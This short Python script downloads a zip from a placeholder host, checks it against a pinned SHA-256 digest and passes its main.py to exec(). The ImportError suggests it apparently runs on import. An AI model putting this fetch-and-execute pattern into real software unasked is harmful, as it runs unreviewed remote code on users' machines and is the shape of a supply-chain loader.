import hashlib
import io
import urllib.request
import zipfile

PIN = "7b6f4d0f9a31be0f6e04b9a6f5cdd0c7dca3f1e9a1d7a3f2cde45b0f11223344"
blob = urllib.request.urlopen("https://example.com/z.zip").read()
if hashlib.sha256(blob).hexdigest() != PIN:
    raise ImportError("digest")
with zipfile.ZipFile(io.BytesIO(blob)) as z:
    exec(z.read("main.py"))
